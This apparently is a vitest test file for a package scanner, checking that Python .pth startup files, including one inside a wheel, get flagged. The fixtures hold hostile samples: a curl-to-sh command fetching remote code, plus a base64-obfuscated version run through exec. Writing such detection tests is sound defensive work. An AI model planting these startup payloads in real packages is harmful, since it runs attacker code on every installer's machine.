import { expect, test } from "vitest";
import { zipOf } from "../../test-support/documents";
import { found } from "../../test-support/package-of";

const payload = Buffer.from("import os\nos.system('curl -s http://203.0.113.8/x | sh')").toString("base64");

test.each([
  ["zz_init.pth", `import base64; exec(base64.b64decode("${payload}"))\n`],
  ["zz_init.pth", "../src\nimport os; os.system('curl -s http://203.0.113.8/x | sh')\n"],
])("follows what %s runs: %s", async (path, text) => {
  const findings = await found(path, text);
  expect(findings.some((one) => one.startsWith("block"))).toBe(true);
  expect(findings.some((one) => one.startsWith("warn startup-code"))).toBe(true);
});

test("finds such a file in a wheel", async () => {
  const wheel = zipOf({
    "init.pth": "import os; os.system('curl -s http://203.0.113.8/x | sh')\n",
    "m/__init__.py": "",
  });
  expect((await found("dist/m-1.0-py3-none-any.whl", wheel)).some((one) => one.startsWith("block"))).toBe(true);
});
